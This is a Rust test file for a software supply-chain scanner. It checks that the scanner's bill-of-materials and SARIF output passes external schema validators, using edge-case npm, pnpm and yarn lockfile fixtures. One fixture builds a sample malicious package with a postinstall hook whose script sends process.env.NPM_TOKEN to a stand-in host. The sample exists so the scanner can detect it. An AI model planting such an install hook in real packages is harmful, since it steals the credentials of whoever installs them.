//! What lazaret writes, read by programs of others, pinned in `tests/validators`: bills of materials and SARIF.

use crate::clients::pinned;
use crate::harness::{Home, malicious};
use serde_json::json;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// A file of `tests/validators`.
fn tool(path: &str) -> PathBuf {
    let file = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../tests/validators")
        .join(path);
    assert!(
        file.is_file(),
        "{} is missing: run scripts/test, or what it does for tests/validators",
        file.display()
    );
    file
}

fn passes(done: &Output, what: &str) {
    assert!(
        done.status.success(),
        "{what}: {}{}",
        String::from_utf8_lossy(&done.stdout),
        String::from_utf8_lossy(&done.stderr)
    );
}

/// By the schemas: CycloneDX's own library, and the SARIF schema.
fn by_schema(kind: &str, file: &Path) -> Output {
    tool("node_modules/@cyclonedx/cyclonedx-library/package.json");
    Command::new(pinned("node-{arch}/bin/node"))
        .arg(tool("validate.mjs"))
        .arg(kind)
        .arg(file)
        .output()
        .unwrap()
}

const SHA512: &str = "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==";

/// Everything that has troubled readers of such documents: scopes, addresses of repositories that are no URLs, aliases,
/// bundled, linked and peer packages, licences of every kind, names in other scripts, two places of one package.
fn package_lock() -> String {
    let entry = |version: &str, more: serde_json::Value| {
        let mut entry = json!({ "version": version, "integrity": SHA512, "resolved": format!("https://registry.example/x/-/x-{version}.tgz") });
        for (key, value) in more.as_object().unwrap() {
            entry[key] = value.clone();
        }
        entry
    };
    let root = json!({ "name": "ship", "version": "1.0.0", "workspaces": ["packages/*"],
        "dependencies": { "@s/boat": "1", "git": "git+ssh://git@code.invalid/o/g h.git", "other": "npm:boat@2" },
        "devDependencies": { "anchor": "1" }, "optionalDependencies": { "sail": "1" } });
    let lock = json!({ "name": "ship", "version": "1.0.0", "lockfileVersion": 3, "packages": {
        "": root,
        "node_modules/@s/boat": entry("1.0.0", json!({ "license": "(MIT OR Apache-2.0)", "dependencies": { "rope": "1" } })),
        "node_modules/@s/boat/node_modules/rope": entry("1.0.0", json!({ "license": "SEE LICENSE IN licence \"x\"" })),
        "node_modules/rope": entry("1.0.0", json!({ "license": "MIT", "hasInstallScript": true })),
        "node_modules/git": { "version": "0.0.1", "resolved": "git+ssh://git@code.invalid/o/g h.git#0123456789012345678901234567890123456789" },
        "node_modules/scp": { "version": "0.0.1", "resolved": "git@code.invalid:o/g.git" },
        "node_modules/other": entry("2.0.0", json!({ "name": "boat", "license": "WTFPL", "deprecated": "no" })),
        "node_modules/anchor": entry("1.0.1", json!({ "dev": true, "license": "UNLICENSED" })),
        "node_modules/sail": entry("1.0.0-rc.1+b", json!({ "optional": true, "peer": true, "os": ["linux"] })),
        "node_modules/sail/node_modules/inside": { "version": "1.0.0", "inBundle": true },
        "node_modules/päck": { "version": "1.0.0", "resolved": "file:../a b/c\u{1}.tgz" },
        "node_modules/one": { "resolved": "packages/one", "link": true },
        "packages/one": { "name": "one", "version": "0.1.0" },
    } });
    serde_json::to_string_pretty(&lock).unwrap()
}

const PNPM: &str = "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      '@s/boat':\n        specifier: ^1.0.0\n        version: 1.0.0\npackages:\n  '@s/boat@1.0.0':\n    resolution: {integrity: sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==}\nsnapshots:\n  '@s/boat@1.0.0': {}\n";

/// pnpm's own document before the project's, and a package that the project patches.
const PNPM_TWO: &str = "---\nlockfileVersion: '9.0'\nimporters:\n  .:\n    packageManagerDependencies:\n      pnpm: {specifier: 11.0.0, version: 11.0.0}\npackages:\n  pnpm@11.0.0: {resolution: {integrity: sha512-p}}\nsnapshots:\n  pnpm@11.0.0: {}\n---\nlockfileVersion: '9.0'\npatchedDependencies:\n  boat@1.0.0: {hash: abc, path: patches/boat x.patch}\nimporters:\n  .:\n    dependencies:\n      boat: {specifier: 1.0.0, version: 1.0.0(patch_hash=abc)}\n  packages/one: {}\npackages:\n  boat@1.0.0: {resolution: {integrity: sha512-b}}\nsnapshots:\n  boat@1.0.0(patch_hash=abc): {}\n";

/// One patch of the project, and one that yarn brings itself.
const YARN: &str = r#"__metadata:
  version: 8
"boat@patch:boat@npm%3A1.0.0#~/.yarn/patches/a:b [c].patch":
  version: 1.0.0
  resolution: "boat@patch:boat@npm%3A1.0.0#~/.yarn/patches/a:b [c].patch::version=1.0.0&hash=0f"
"crane@patch:crane@npm%3A1.0.0#optional!builtin<compat/crane>":
  version: 1.0.0
  resolution: "crane@patch:crane@npm%3A1.0.0#optional!builtin<compat/crane>::version=1.0.0&hash=0f"
"ship@workspace:.":
  version: 0.0.0-use.local
  resolution: "ship@workspace:."
  dependencies:
    boat: "patch:boat@npm%3A1.0.0#~/.yarn/patches/a:b [c].patch"
"#;

fn home() -> Home {
    let home = Home::new();
    home.write(
        "osv/MAL-2026-1.json",
        malicious("MAL-2026-1", "anchor", &["1.0.1"]),
    );
    let said = home.run(&["advisories", "import", "osv", "--data", "data"]);
    assert_eq!(said.code, Some(0), "{}", said.stderr);
    home
}

/// Writes what a command prints into a file.
fn printed(home: &Home, name: &str, arguments: &[&str]) -> PathBuf {
    let said = home.run(arguments);
    assert!(!said.stdout.is_empty(), "{arguments:?}: {}", said.stderr);
    home.write(name, said.stdout)
}

#[test]
fn bills_of_materials_are_what_cyclonedx_and_spdx_want() {
    for (file, text) in [
        ("package-lock.json", package_lock()),
        ("pnpm-lock.yaml", PNPM.to_owned()),
        ("pnpm-lock.yaml", PNPM_TWO.to_owned()),
        ("yarn.lock", YARN.to_owned()),
    ] {
        let home = home();
        home.write(
            "lazaret-waivers.toml",
            format!("[[waive]]\npackage = \"anchor@1.0.1\"\nintegrity = \"{SHA512}\"\nreason = \"r\"\nforever = true\n"),
        );
        home.write(file, text);
        for (format, kind) in [
            ("cyclonedx", "cyclonedx-1.6"),
            ("cyclonedx-1.7", "cyclonedx-1.7"),
        ] {
            let sbom = [
                "sbom",
                "--data",
                "data",
                "--format",
                format,
                "--timestamp",
                "2026-11-22T10:00:00Z",
            ];
            let path = printed(&home, "bom.json", &sbom);
            passes(&by_schema(kind, &path), &format!("{kind} of {file}"));
        }
        let path = printed(
            &home,
            "bom.spdx.json",
            &["sbom", "--data", "data", "--format", "spdx"],
        );
        let done = Command::new(tool("python/bin/pyspdxtools"))
            .arg("--infile")
            .arg(&path)
            .output()
            .unwrap();
        passes(&done, &format!("SPDX of {file}"));
    }
}

#[test]
fn so_are_those_of_what_is_installed() {
    let home = home();
    home.write("package.json", r#"{"name": "ship"}"#);
    for (path, name) in [("a", "a"), ("@s/b c", "päck"), ("é", "\\u0001")] {
        let manifest = format!(r#"{{"name": "{name}", "version": "1 \\u0002", "license": "x y"}}"#);
        home.write(&format!("node_modules/{path}/package.json"), manifest);
    }
    for (format, kind) in [
        ("cyclonedx", "cyclonedx-1.6"),
        ("cyclonedx-1.7", "cyclonedx-1.7"),
    ] {
        let path = printed(
            &home,
            "bom.json",
            &["sbom", "node_modules", "--data", "data", "--format", format],
        );
        passes(&by_schema(kind, &path), kind);
    }
}

#[test]
fn what_is_not_well_formed_is_refused() {
    let home = Home::new();
    let bad = json!({ "bomFormat": "CycloneDX", "specVersion": "1.6", "components": [{ "type": "boat" }] });
    let path = home.write("bom.json", bad.to_string());
    assert!(!by_schema("cyclonedx-1.6", &path).status.success());
    let bad = json!({ "version": "2.1.0", "runs": [{ "results": [] }] });
    let path = home.write("log.sarif", bad.to_string());
    assert!(!by_schema("sarif", &path).status.success());
}

#[test]
fn sarif_is_what_its_schema_and_code_scanning_want() {
    let home = home();
    let lock = package_lock().replace("/x/-/x-1.0.1", "/other/-/other-9.9.9");
    home.write("package-lock.json", &lock);
    let check = [
        "check",
        "--data",
        "data",
        "--offline",
        "--notes",
        "--format",
        "sarif",
    ];
    let path = printed(&home, "check.sarif", &check);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(
        text.contains("\"malicious\"") && text.contains("resolved-"),
        "{text}"
    );
    home.write(
        "package/package.json",
        r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node a.js"}}"#,
    );
    home.write(
        "package/a.js",
        "fetch('https://collector.invalid/' + process.env.NPM_TOKEN)\n",
    );
    let inspected = printed(
        &home,
        "inspect.sarif",
        &["inspect", "package", "--data", "data", "--format", "sarif"],
    );
    for path in [path, inspected] {
        passes(&by_schema("sarif", &path), &path.display().to_string());
        // It is there for this processor only.
        if !cfg!(target_arch = "x86_64") {
            continue;
        }
        let done = Command::new(tool(
            "node_modules/@microsoft/sarif-multitool-linux/Sarif.Multitool",
        ))
        .arg("validate")
        .arg(&path)
        .args(["--rule-kind", "Sarif;Ghas"])
        .env("DOTNET_SYSTEM_GLOBALIZATION_INVARIANT", "1")
        .env("HOME", home.path())
        .output()
        .unwrap();
        passes(&done, &path.display().to_string());
    }
}
